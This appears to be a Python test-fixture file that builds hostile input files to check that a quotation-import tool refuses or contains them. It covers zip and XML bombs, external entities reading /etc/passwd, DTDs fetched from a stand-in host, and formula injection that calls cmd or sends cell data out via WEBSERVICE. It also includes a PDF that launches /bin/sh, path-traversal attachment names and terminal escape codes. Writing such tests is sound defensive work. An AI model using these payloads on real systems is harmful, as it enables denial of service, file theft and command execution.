"""Hostile replies, one builder each: name -> (what must become of it, builder).

What must become of it: 'refused' (no draft; the project keeps every byte), 'asked' (a draft may
be kept with the file, nothing may be accepted as a quote), 'bounded' (either of the two, or the
harmless part of it is read: no time, no memory, no escape, nothing of it runs). The kinds of
attack are common practice (no source); 'billion laughs' and external entities are those of the
XML recommendation's own features, XML 1.0 sections 4.2 and 4.4.

Longer than 400 lines because it is a list: one short builder for each hostile file, kept together
so that what was tried can be read in one place.
"""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

from openpyxl import Workbook
from openpyxl.comments import Comment
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from reportlab.pdfgen.canvas import Canvas

Builder = Callable[[Path], Path]
ATTACKS: dict[str, tuple[str, Builder]] = {}
ROWS = [["Part", "Qty", "Unit price EUR"], ["SB-110", 5, 41.2], ["SB-120", 5, 12.5]]
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY m SYSTEM "file:///etc/passwd">]>'
ODS_ROW = (
    b"<table:table-row><table:table-cell><text:p>%s</text:p></table:table-cell></table:table-row>"
)
QUOTATION = (
    b'<Quotation xmlns="urn:oasis:names:specification:ubl:schema:xsd:Quotation-2" '
    b'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">'
    b"<cbc:ID>%s</cbc:ID></Quotation>"
)


def attack(name: str, becomes: str) -> Callable[[Builder], Builder]:
    """Put a builder on the list."""

    def put(build: Builder) -> Builder:
        ATTACKS[name] = (becomes, build)
        return build

    return put


# --- pieces --------------------------------------------------------------------------------


def workbook(dress: Callable[[Workbook], object] | None = None) -> bytes:
    """Bytes of an honest workbook, dressed."""
    book = Workbook()
    for row in ROWS:
        book.active.append(row)
    if dress:
        dress(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def swapped(data: bytes, changed: dict[str, bytes]) -> bytes:
    """A packed file with members put in or replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            if info.filename not in changed:
                new.writestr(info.filename, old.read(info))
        for name, content in changed.items():
            new.writestr(name, content)
    return out.getvalue()


def put(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def sheet_xml(rows: bytes, head: bytes = b"", more: bytes = b"") -> bytes:
    return (
        head
        + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b"<sheetData>" + rows + b"</sheetData>" + more + b"</worksheet>"
    )  # fmt: skip


SHEET = "xl/worksheets/sheet1.xml"


def with_sheet(rows: bytes, head: bytes = b"", more: bytes = b"") -> bytes:
    return swapped(workbook(), {SHEET: sheet_xml(rows, head, more)})


def ods(content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
        new.writestr("content.xml", content)
    return out.getvalue()


def ods_table(rows: bytes, head: bytes = b"") -> bytes:
    return ods(
        head + b"<office:document-content "
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        b'<office:spreadsheet><table:table table:name="Q">'
        + rows
        + b"</table:table></office:spreadsheet></office:body></office:document-content>"
    )


def letter(lines: tuple[str, ...] = ("SB-110  5 pcs  41.20 EUR each",)) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out)
    for number, line in enumerate(lines):
        canvas.drawString(60, 760 - 20 * number, line)
    canvas.save()
    return out.getvalue()


def pdf_with(change: Callable[[PdfWriter], object], base: bytes | None = None) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(base or letter())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def mail(dress: Callable[[EmailMessage], object], body: str = "Please see the attached.") -> bytes:
    message = EmailMessage()
    message["From"] = "Quotes <quotes@oakvane.example.com>"
    message["To"] = "rfq@seedbuoy.example.com"
    message["Subject"] = "Quotation"
    message["Date"] = "Fri, 10 Jul 2026 10:00:00 +0200"
    message.set_content(body)
    dress(message)
    return message.as_bytes()


# --- packed files that unpack without end ---------------------------------------------------


@attack("zip bomb: one sheet of 300 MB", "refused")
def _(folder: Path) -> Path:
    return put(folder, "bomb.xlsx", swapped(workbook(), {SHEET: b"\0" * 300_000_000}))


@attack("zip bomb: sheet below the ratio, 200 MB in pieces", "refused")
def _(folder: Path) -> Path:
    noise = random.Random(1).randbytes(40_000)
    block = b"".join(noise[i : i + 200] + b"0" * 9800 for i in range(0, 40_000, 200))
    pieces = {f"xl/media/{n}.xml": block * 5 for n in range(20)}
    return put(folder, "pieces.xlsx", swapped(workbook(), pieces))


@attack("zip that lies about its sizes", "asked")
def _(folder: Path) -> Path:
    data = bytearray(swapped(workbook(), {SHEET: b"0" * 30_000_000}))
    size = struct.pack("<I", 30_000_000)
    at = data.find(size)
    while at >= 0:
        data[at : at + 4] = struct.pack("<I", 1_000)
        at = data.find(size, at + 4)
    return put(folder, "liar.xlsx", bytes(data))


@attack("zip of 20,000 members", "refused")
def _(folder: Path) -> Path:
    return put(folder, "many.xlsx", swapped(workbook(), {f"x/{n}": b"" for n in range(20_000)}))


@attack("zip whose members lie over each other", "refused")
def _(folder: Path) -> Path:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("xl/workbook.xml", b"0" * 9_000_000)
    data = out.getvalue()
    start = data.find(b"PK\x01\x02")
    end = data.find(b"PK\x05\x06")
    entry, count = data[start:end], 2000
    tail = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, start, 0
    )
    return put(folder, "overlap.xlsx", data[:start] + entry * count + tail)


@attack("zip in a zip in a zip", "refused")
def _(folder: Path) -> Path:
    data = workbook()
    for _ in range(20):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as new:
            new.writestr("quote.zip", data)
        data = out.getvalue()
    return put(folder, "nested.zip", data)


# --- XML ------------------------------------------------------------------------------------


@attack("XML bomb in a sheet", "refused")
def _(folder: Path) -> Path:
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&l;</t></is></c></row>'
    return put(folder, "laughs.xlsx", with_sheet(row, LAUGHS))


@attack("XML bomb in the shared texts", "refused")
def _(folder: Path) -> Path:
    return put(
        folder,
        "shared.xlsx",
        swapped(workbook(), {"xl/sharedStrings.xml": LAUGHS + b"<sst>&l;</sst>"}),
    )


@attack("XML bomb in UTF-16", "refused")
def _(folder: Path) -> Path:
    xml = (
        LAUGHS.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"') + b"<x>&l;</x>"
    ).decode()
    return put(folder, "utf16.xlsx", swapped(workbook(), {SHEET: xml.encode("utf-16")}))


@attack("external entity in a sheet", "refused")
def _(folder: Path) -> Path:
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&m;</t></is></c></row>'
    return put(folder, "outside.xlsx", with_sheet(row, OUTSIDE))


@attack("XML bomb in a UBL quotation", "refused")
def _(folder: Path) -> Path:
    return put(folder, "laughs.xml", LAUGHS + QUOTATION % b"&l;")


@attack("external entity in a UBL quotation", "refused")
def _(folder: Path) -> Path:
    return put(folder, "outside.xml", OUTSIDE + QUOTATION % b"&m;")


@attack("DTD from the network in a UBL quotation", "refused")
def _(folder: Path) -> Path:
    return put(
        folder, "dtd.xml", b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">' + QUOTATION % b"1"
    )


@attack("parameter entities in a UBL quotation", "refused")
def _(folder: Path) -> Path:
    head = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>'
    return put(folder, "parameter.xml", head + QUOTATION % b"1")


@attack("a long entity repeated (quadratic)", "refused")
def _(folder: Path) -> Path:
    head = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>'
    return put(folder, "quadratic.xml", head + QUOTATION % (b"&a;" * 50_000))


@attack("XML inclusion of a file", "bounded")
def _(folder: Path) -> Path:
    inner = (
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
    )
    return put(folder, "include.xml", QUOTATION % inner)


@attack("XML nested 300,000 deep", "bounded")
def _(folder: Path) -> Path:
    deep = b"<a>" * 300_000 + b"</a>" * 300_000
    return put(folder, "deep.xml", QUOTATION % deep)


@attack("a sheet nested 300,000 deep", "refused")
def _(folder: Path) -> Path:
    deep = b"<x>" * 300_000 + b"</x>" * 300_000
    row = b'<row r="1"><c r="A1" t="inlineStr"><is>' + deep + b"</is></c></row>"
    return put(folder, "deep.xlsx", with_sheet(row))


@attack("XML with 200,000 attributes", "bounded")
def _(folder: Path) -> Path:
    many = b" ".join(b'a%d="1"' % n for n in range(200_000))
    return put(
        folder, "attributes.xml", (QUOTATION % b"1").replace(b"<cbc:ID>", b"<cbc:ID " + many + b">")
    )


@attack("an ODS with external entities", "refused")
def _(folder: Path) -> Path:
    return put(folder, "outside.ods", ods_table(ODS_ROW % b"&m;", OUTSIDE))


@attack("an ODS bomb of entities", "refused")
def _(folder: Path) -> Path:
    return put(folder, "laughs.ods", ods_table(ODS_ROW % b"&l;", LAUGHS))


# --- sheets without end ---------------------------------------------------------------------


@attack("a cell of 10 MB in a workbook", "refused")
def _(folder: Path) -> Path:
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + os.urandom(5_000_000).hex().encode()
    return put(folder, "cell.xlsx", with_sheet(row + b"</t></is></c></row>"))


@attack("a cell of 10 MB in a CSV", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "cell.csv", b"Part;Qty;Price EUR\nSB-110;5;" + b"1" * 10_000_000 + b"\n")


@attack("a quoted cell that never ends", "bounded")
def _(folder: Path) -> Path:
    return put(
        folder, "open.csv", b'Part;Qty;Price EUR\nSB-110;5;"41,20\n' + b"x;y;z\n" * 2_000_000
    )


@attack("five million blanks in a CSV", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "blanks.csv", b"Part;Qty;Price EUR\nSB-110;5;41,20\n" + b";" * 5_000_000)


@attack("two million blank lines", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "lines.csv", b"Part;Qty;Price EUR\nSB-110;5;41,20\n" + b"\n" * 2_000_000)


@attack("a million blank cells with formats", "bounded")
def _(folder: Path) -> Path:
    row = b'<row r="%d">' + b"".join(b'<c s="0"/>' for _ in range(100)) + b"</row>"
    rows = b"".join(row % n for n in range(1, 10_001))
    return put(folder, "blank.xlsx", with_sheet(rows))


@attack("a claimed range of 17 thousand million cells", "bounded")
def _(folder: Path) -> Path:
    xml = sheet_xml(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>').replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'
    )
    return put(folder, "range.xlsx", swapped(workbook(), {SHEET: xml}))


@attack("a merge over the whole sheet", "bounded")
def _(folder: Path) -> Path:
    merge = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return put(
        folder, "merge.xlsx", with_sheet(b'<row r="1"><c r="A1"><v>1</v></c></row>', b"", merge)
    )


@attack("row and column numbers beyond any sheet", "bounded")
def _(folder: Path) -> Path:
    row = b'<row r="999999999999"><c r="ZZZZZZ999999999999"><v>1</v></c></row>'
    return put(folder, "beyond.xlsx", with_sheet(row))


@attack("shared texts that are not there", "bounded")
def _(folder: Path) -> Path:
    row = b'<row r="1"><c r="A1" t="s"><v>99999999</v></c><c r="B1" t="s"><v>-5</v></c></row>'
    return put(folder, "missing.xlsx", with_sheet(row))


@attack("numbers beyond sense", "asked")
def _(folder: Path) -> Path:
    head = b"".join(
        b'<c r="%c1" t="inlineStr"><is><t>%s</t></is></c>' % (65 + n, word)
        for n, word in enumerate((b"Part", b"Qty", b"Unit price EUR"))
    )
    rows = b'<row r="1">' + head + b"</row>"
    for number, value in enumerate((b"1e308", b"NaN", b"-INF", b"1e-300", b"9" * 400), 2):
        rows += (
            b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>SB-110</t></is></c>'
            b'<c r="B%d"><v>5</v></c><c r="C%d"><v>%s</v></c></row>'
            % (number, number, number, number, value)
        )
    return put(folder, "numbers.xlsx", with_sheet(rows))


@attack("an ODS cell repeated 17 thousand million times", "bounded")
def _(folder: Path) -> Path:
    row = (
        b'<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        b'table:number-columns-repeated="16384"><text:p>1</text:p></table:table-cell></table:table-row>'
    )
    return put(folder, "repeat.ods", ods_table(row))


@attack("an ODS of repeated rows, 50 times", "bounded")
def _(folder: Path) -> Path:
    row = (
        b'<table:table-row table:number-rows-repeated="99999999999999"><table:table-cell '
        b'table:number-columns-repeated="400"><text:p>1</text:p></table:table-cell></table:table-row>'
    )
    return put(folder, "repeats.ods", ods_table(row * 50))


@attack("an ODS nested 200,000 deep", "refused")
def _(folder: Path) -> Path:
    return put(folder, "deep.ods", ods_table(b"<text:p>" * 200_000 + b"</text:p>" * 200_000))


@attack("HTML tables in tables, 50,000 deep", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "deep.xls", b"<html><body>" + b"<table><tr><td>" * 50_000 + b"41,20")


@attack("a spreadsheet of 45 MB", "refused")
def _(folder: Path) -> Path:
    path = folder / "large.csv"
    with path.open("wb") as file:
        file.write(b"Part;Qty;Price\n")
        file.truncate(45_000_000)
    return path


# --- what would like to run -----------------------------------------------------------------


def _formulas(book: Workbook) -> None:
    sheet = book.active
    sheet["C2"] = "=cmd|'/c calc'!A0"
    sheet["C3"] = '=WEBSERVICE("http://192.0.2.1/?p="&A2)'
    sheet["D2"] = '=HYPERLINK("http://192.0.2.1/","41.20")'
    sheet["D3"] = "='http://192.0.2.1/[x.xlsx]S'!A1"


@attack("formulas that call out", "asked")
def _(folder: Path) -> Path:
    return put(folder, "formulas.xlsx", workbook(_formulas))


@attack("links to other workbooks and to the network", "bounded")
def _(folder: Path) -> Path:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink '
        b'xmlns:r="x" ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="http://192.0.2.1/x.xlsx" TargetMode="External"/>'
        b"</Relationships>"
    )
    return put(folder, "links.xlsx", swapped(workbook(), {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
    }))  # fmt: skip


@attack("a workbook with macros", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "macros.xlsm", swapped(workbook(), {"xl/vbaProject.bin": b"Auto_Open" * 99}))


@attack("formulas in a CSV", "asked")
def _(folder: Path) -> Path:
    rows = "Part,Qty,Unit price EUR\nSB-110,5,\"=cmd|'/c calc'!A0\"\nSB-120,5,@SUM(1+1)\n"
    return put(folder, "formulas.csv", rows.encode())


@attack("a PDF that runs scripts and programs", "bounded")
def _(folder: Path) -> Path:
    def dress(writer: PdfWriter) -> None:
        script = TextStringObject("app.launchURL('http://192.0.2.1')")
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script,
            NameObject("/Next"): DictionaryObject({
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("/bin/sh"),
            }),
        })  # fmt: skip
        writer.add_attachment("../../x.sh", b"#!/bin/sh\n")

    return put(folder, "scripts.pdf", pdf_with(dress))


# --- names and signs that would like to act -------------------------------------------------


@attack("escape codes in cells", "bounded")
def _(folder: Path) -> Path:
    rows = (
        "Part;Qty;Price EUR\nSB-110;5;41,20\n\x1b]0;owned\x07\x1b[2J\x1b[31mSB-120;5;12,50\n"
        "\x9b31mSB-130;5;\x1b[8m9,99\nSB-140\x08\x08\x08;5;1,00\rSB-150;5;2,00\n"
    )
    return put(folder, "escapes.csv", rows.encode())


@attack("escape codes in sheet names, comments and texts", "bounded")
def _(folder: Path) -> Path:
    def dress(book: Workbook) -> None:
        book.active.title = "Q"
        book.active["C2"].comment = Comment("price _x001B_[2J without finish", "x")
        book.active["A4"] = "_x001B_]0;owned_x0007_ SB-130"

    data = swapped(workbook(dress), {})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        book = archive.read("xl/workbook.xml").replace(b'name="Q"', b'name="_x001B_[2J&#9;Q"')
    return put(folder, "names.xlsx", swapped(data, {"xl/workbook.xml": book}))


@attack("escape codes in the file's own name", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "\x1b[2J\x1b]0;owned\x07 quote.csv", b"Part;Qty;Price EUR\nSB-110;5;41,20\n")


@attack("a file name with line ends and right-to-left signs", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "quote\n\u202excod.csv", b"Part;Qty;Price EUR\nSB-110;5;41,20\n")


@attack("a file name of 250 signs", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "q" * 246 + ".csv", b"Part;Qty;Price EUR\nSB-110;5;41,20\n")


@attack("paths in attachment names", "bounded")
def _(folder: Path) -> Path:
    def dress(message: EmailMessage) -> None:
        for name in ("../../../../tmp/owned.csv", "..\\..\\owned.csv", "/etc/owned",
                     "C:\\x.csv", "con", "a\x1b[2Jb.csv", "..", "x" * 5000 + ".csv"):  # fmt: skip
            message.add_attachment(b"Part;Qty;Price EUR\nSB-110;5;41,20\n",
                                   maintype="text", subtype="csv", filename=name)  # fmt: skip

    return put(folder, "paths.eml", mail(dress))


@attack("a mail nested 500 deep", "bounded")
def _(folder: Path) -> Path:
    head = b"From: a@example.com\nTo: b@example.com\nSubject: x\nMIME-Version: 1.0\n"
    data = head + b"\n41,20\n"
    for number in range(500):
        data = (
            head + b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (number, number)
            + b"Content-Type: message/rfc822\n\n" + data + b"\n--b%d--\n" % number
        )  # fmt: skip
    return put(folder, "nested.eml", data)


@attack("a mail of 30,000 parts", "bounded")
def _(folder: Path) -> Path:
    head = (b"From: a@example.com\nTo: b@example.com\nSubject: x\nMIME-Version: 1.0\n"
            b'Content-Type: multipart/mixed; boundary="b"\n\n')  # fmt: skip
    return put(
        folder, "parts.eml", head + b"--b\nContent-Type: text/plain\n\nx\n" * 30_000 + b"--b--\n"
    )


@attack("a mail head of 5 MB", "bounded")
def _(folder: Path) -> Path:
    head = (
        b"From: a@example.com\nTo: b@example.com\nDate: x\nSubject: "
        + b"=?utf-8?b?eHg=?= " * 300_000
    )
    return put(folder, "head.eml", head + b"\n\nSB-110 5 pcs 41.20 EUR\n")


@attack("a mail with a zip bomb", "bounded")
def _(folder: Path) -> Path:
    bomb = swapped(workbook(), {SHEET: b"\0" * 200_000_000})

    def dress(message: EmailMessage) -> None:
        message.add_attachment(bomb, maintype="application", subtype="zip", filename="q.xlsx")

    return put(folder, "bomb.eml", mail(dress))


@attack("a mail of one line of 20 MB", "bounded")
def _(folder: Path) -> Path:
    head = b"From: a@example.com\nTo: b@example.com\nSubject: quote\n\n"
    return put(folder, "line.eml", head + b"41,20 EUR " * 2_000_000)


@attack("a mail with an attachment of 24 MB", "bounded")
def _(folder: Path) -> Path:
    def dress(message: EmailMessage) -> None:
        message.add_attachment(
            os.urandom(24_000_000), maintype="application", subtype="zip", filename="model.zip"
        )

    return put(folder, "heavy.eml", mail(dress))


# --- PDF ------------------------------------------------------------------------------------


@attack("an encrypted PDF", "refused")
def _(folder: Path) -> Path:
    return put(folder, "locked.pdf", pdf_with(lambda w: w.encrypt("x", algorithm="AES-256")))


@attack("a PDF whose text layer is scrambled", "refused")
def _(folder: Path) -> Path:
    def scramble(writer: PdfWriter) -> None:
        names = ArrayObject()
        names.append(NumberObject(32))
        for code in range(32, 127):
            names.append(NameObject(f"/g{(code * 7) % 95}"))
        for page in writer.pages:
            fonts = page["/Resources"]["/Font"]  # type: ignore[index]
            for key in fonts:
                font = fonts[key].get_object()
                font[NameObject("/Encoding")] = DictionaryObject({
                    NameObject("/Type"): NameObject("/Encoding"),
                    NameObject("/Differences"): names,
                })  # fmt: skip

    lines = tuple(f"Pos {n}  SB-1{n}0  5 pcs  4{n}.20 EUR each, net 30 days" for n in range(1, 9))
    return put(folder, "scrambled.pdf", pdf_with(scramble, letter(lines)))


@attack("a PDF stream that unpacks to 1 GB", "bounded")
def _(folder: Path) -> Path:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * 10_000_000) for _ in range(100)) + packer.flush()

    def dress(writer: PdfWriter) -> None:
        stream = DecodedStreamObject()
        stream._data = data
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return put(folder, "flate.pdf", pdf_with(dress))


@attack("a PDF whose pages go in a circle", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "circle.pdf", (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 999999999>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    ))  # fmt: skip


@attack("a PDF of 20,000 pages", "bounded")
def _(folder: Path) -> Path:
    out = io.BytesIO()
    canvas = Canvas(out, pageCompression=0)
    for _ in range(20_000):
        canvas.showPage()
    canvas.save()
    return put(folder, "pages.pdf", out.getvalue())


@attack("a PDF with a page of light years", "bounded")
def _(folder: Path) -> Path:
    def dress(writer: PdfWriter) -> None:
        box = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(9e30), FloatObject(9e30)])
        writer.pages[0][NameObject("/MediaBox")] = box

    return put(folder, "wide.pdf", pdf_with(dress))


@attack("a PDF cut in the middle", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "cut.pdf", letter()[:700])


@attack("a PDF form that calls itself", "bounded")
def _(folder: Path) -> Path:
    body = b"q /F Do Q " * 200
    return put(folder, "self.pdf", (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
        b"/Resources<</XObject<</F 4 0 R>>>>>>endobj\n"
        b"4 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>"
        b"/Length %d>>stream\n%s\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF"
        % (len(body), body)
    ))  # fmt: skip


# --- the wrong kind behind the right ending -------------------------------------------------

WRONG = {
    "a picture as .xlsx": ("p.xlsx", b"\x89PNG\r\n\x1a\n" + b"\0" * 500),
    "a program as .pdf": ("p.pdf", b"MZ\x90\0" + b"\0" * 500),
    "a program of Unix as .csv": ("p.csv", b"\x7fELF" + b"\0" * 500),
    "gzip as .xls": ("p.xls", b"\x1f\x8b\x08\0" + b"\0" * 500),
    "noise as .xlsx": ("n.xlsx", random.Random(2).randbytes(100_000)),
    "noise as .csv": ("n.csv", random.Random(3).randbytes(100_000)),
    "noise as .eml": ("n.eml", random.Random(4).randbytes(100_000)),
    "a broken zip as .xlsx": ("z.xlsx", b"PK\x03\x04" + random.Random(5).randbytes(9_000)),
    "noise behind a PDF head": ("n.pdf", b"%PDF-1.7\n" + random.Random(6).randbytes(90_000)),
    "noise behind an old workbook's head": (
        "n.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(7).randbytes(90_000)
    ),
    "an old workbook whose chain of blocks is a circle": (
        "c.xls",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
        + struct.pack(
            "<HHHHH6xIIIIIIIIII", 62, 3, 0xFFFE, 9, 6, 0, 1, 0, 0, 4096, 0, 0, 0, 1, 0
        )[:52]
        + struct.pack("<I", 0) * 109
        + struct.pack("<I", 0) * 128 * 4 + "Workbook".encode("utf-16-le"),
    ),
    "nothing at all": ("e.csv", b""),
    "blanks only": ("b.csv", b" \n" * 4000),
    "zero bytes only": ("z.csv", b"\0" * 4000),
}  # fmt: skip
for _name, (_file, _data) in WRONG.items():
    ATTACKS[_name] = ("refused", lambda folder, f=_file, d=_data: put(folder, f, d))


@attack("broken encodings", "bounded")
def _(folder: Path) -> Path:
    head = b"Part;Qty;Price \x80\xff\xfe\xc0\xaf\n"
    rows = b"SB-110;5;41\xa020,5\xed\xa0\x80\nSB-120;\xf5;1\xe2\x80\n"
    return put(folder, "broken.csv", head + rows)


@attack("half of a UTF-16 text", "bounded")
def _(folder: Path) -> Path:
    return put(folder, "half.csv", "Part;Qty;Price EUR\nSB-110;5;41,20\n".encode("utf-16")[:-1])


# --- no files at all ------------------------------------------------------------------------


@attack("a pipe nobody writes to", "refused")
def _(folder: Path) -> Path:
    os.mkfifo(folder / "pipe.csv")
    return folder / "pipe.csv"


@attack("a link to a device without end", "refused")
def _(folder: Path) -> Path:
    (folder / "zero.csv").symlink_to("/dev/zero")
    return folder / "zero.csv"


@attack("a folder", "refused")
def _(folder: Path) -> Path:
    (folder / "folder.xlsx").mkdir()
    return folder / "folder.xlsx"


@attack("a file that is not there", "refused")
def _(folder: Path) -> Path:
    return folder / "nowhere.xlsx"
